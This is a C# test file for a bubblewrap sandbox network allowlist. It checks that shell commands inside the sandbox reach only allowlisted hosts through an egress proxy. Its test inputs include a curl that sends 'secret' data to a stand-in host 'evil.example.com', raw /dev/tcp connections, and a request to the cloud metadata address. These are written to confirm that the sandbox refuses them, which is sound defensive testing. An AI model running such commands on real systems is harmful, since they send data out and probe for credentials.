using System.Net;
using System.Net.Sockets;
using System.Text.Json;
using Wright.Core.Tools;
using Wright.Sandbox;
using Wright.Sandbox.Network;
using Wright.Tests.Support;
using Wright.Tools;
using Wright.Tools.Shell;

namespace Wright.Tests.Sandbox;

/// <summary>
/// The network allowlist under the real bubblewrap: curl inside the sandbox reaches an allowlisted name (mapped by the
/// test resolver to a local server) through the egress proxy and its socat forwarder, and nothing else.
/// </summary>
public sealed class SandboxNetworkTests : IDisposable
{
    private readonly ToolTestContext _ctx = new();
    private readonly Network.NamedHostServer _server = new("registry index");
    private readonly List<ProxyDecision> _log = [];
    private readonly BubblewrapLauncher _launcher;
    private readonly ShellTool _shell;
    private readonly int _port;

    public SandboxNetworkTests()
    {
        Assert.True(BubblewrapLauncher.Probe().Available, "bubblewrap must work on the test machine");
        Assert.True(File.Exists("/usr/bin/socat"), "socat must be installed (scripts/install-deps.sh all)");
        _port = _server.Port;
        _launcher = new BubblewrapLauncher(_ctx.Workspace, [], new SandboxOptions
        {
            NetworkAllow = ["registry.npmjs.org", "*.pypi.org"],
            Resolve = (host, _) => Task.FromResult(host is "registry.npmjs.org" or "evil.example.com" ? new[] { IPAddress.Loopback } : throw new SocketException((int)SocketError.HostNotFound)),
            AllowPrivateAddresses = true,
            Ports = new HashSet<int> { 80, 443, _port },
            NetworkLog = d => { lock (_log) _log.Add(d); },
            NetworkLogFile = Path.Combine(_ctx.Root, "logs", "net.log"),
        });
        _shell = new ShellTool(new ToolOptions { DefaultShellTimeout = TimeSpan.FromSeconds(30), Launcher = _launcher });
    }

    public void Dispose()
    {
        _launcher.Dispose();
        _server.Dispose();
        _ctx.Dispose();
    }

    private async Task<string> Run(string command)
    {
        var args = new Dictionary<string, object> { ["command"] = command };
        var result = await _shell.InvokeAsync(JsonDocument.Parse(JsonSerializer.Serialize(args, TestJson.Default.DictionaryStringObject)).RootElement,
            _ctx.Context, TestContext.Current.CancellationToken);
        return result.Content;
    }

    [Fact]
    public async Task Curl_reaches_an_allowlisted_name_through_the_proxy_and_the_decision_is_logged()
    {
        var output = await Run($"env | grep -i _proxy= | sort; curl -sS --max-time 10 http://registry.npmjs.org:{_port}/index.json");

        Assert.Contains("registry index", output);
        Assert.Contains("HTTPS_PROXY=http://127.0.0.1:3128", output);
        Assert.Equal(1, _server.Hits);
        Assert.Contains(_log, d => d.Allowed && d.Host == "registry.npmjs.org");
        Assert.Contains("allow GET registry.npmjs.org:" + _port, File.ReadAllText(Path.Combine(_ctx.Root, "logs", "net.log")));
    }

    [Fact]
    public async Task A_name_that_is_not_allowlisted_is_refused_even_when_it_resolves()
    {
        var output = await Run($"curl -sS --max-time 10 http://evil.example.com:{_port}/steal?d=secret; echo; curl -sS --max-time 10 -o /dev/null -w '%{{http_code}}' https://evil.example.com/; echo; echo done");

        Assert.Contains("not in sandbox.network.allow", output);
        Assert.Contains("403", output);
        Assert.Contains("done", output);
        Assert.Equal(0, _server.Hits);
    }

    [Fact]
    public async Task Direct_tcp_without_the_proxy_fails()
    {
        var output = await Run($"curl -sS --noproxy '*' --max-time 5 http://127.0.0.1:{_port}/ && echo direct-ok; (exec 3<>/dev/tcp/127.0.0.1/{_port}) && echo tcp-open; (exec 3<>/dev/tcp/1.1.1.1/443) && echo internet-open; echo done");

        Assert.Contains("done", output);
        Assert.DoesNotContain("direct-ok", output);
        Assert.DoesNotContain("tcp-open", output);
        Assert.DoesNotContain("internet-open", output);
        Assert.Equal(0, _server.Hits);
    }

    [Fact]
    public async Task An_ip_literal_through_the_proxy_is_refused()
    {
        var output = await Run($"curl -sS --max-time 10 http://127.0.0.1:{_port}/ ; curl -sS --max-time 10 -x http://127.0.0.1:3128 http://169.254.169.254/latest/meta-data/; echo done");

        Assert.Contains("done", output);
        Assert.DoesNotContain("registry index", output);
        Assert.Equal(0, _server.Hits);
    }

    [Fact]
    public void Without_an_allowlist_there_is_no_proxy_socket_or_variable()
    {
        using var launcher = new BubblewrapLauncher(_ctx.Workspace, [], new SandboxOptions());
        using var launch = launcher.Launch(["-c", "true"], new Dictionary<string, string>(), _ctx.Workspace);
        var args = LaunchArguments.Of(launch);

        Assert.DoesNotContain("HTTPS_PROXY", args);
        Assert.DoesNotContain("/run/wright/proxy.sock", args);
    }

    [Fact]
    public async Task Without_the_forwarder_the_sandbox_stays_offline_and_says_why()
    {
        using var launcher = new BubblewrapLauncher(_ctx.Workspace, [], new SandboxOptions
        {
            NetworkAllow = ["registry.npmjs.org"],
            Socat = "/nonexistent/socat",
            Resolve = (_, _) => Task.FromResult(new[] { IPAddress.Loopback }),
            AllowPrivateAddresses = true,
            Ports = new HashSet<int> { _port },
        });
        var shell = new ShellTool(new ToolOptions { DefaultShellTimeout = TimeSpan.FromSeconds(30), Launcher = launcher });
        var args = JsonDocument.Parse(JsonSerializer.Serialize(new Dictionary<string, object> { ["command"] = $"curl -sS --max-time 5 http://registry.npmjs.org:{_port}/; echo done" }, TestJson.Default.DictionaryStringObject));

        var output = (await shell.InvokeAsync(args.RootElement, _ctx.Context, TestContext.Current.CancellationToken)).Content;

        Assert.Contains("needs /nonexistent/socat", output);
        Assert.Contains("done", output);
        Assert.DoesNotContain("registry index", output);
        Assert.Equal(0, _server.Hits);
    }

    [Fact]
    public async Task The_seccomp_descriptor_does_not_stay_open_in_the_command()
    {
        var output = await Run("ls -l /proc/self/fd/ | grep -c seccomp.bpf; echo done");

        Assert.Contains("0\ndone", output);
    }
}
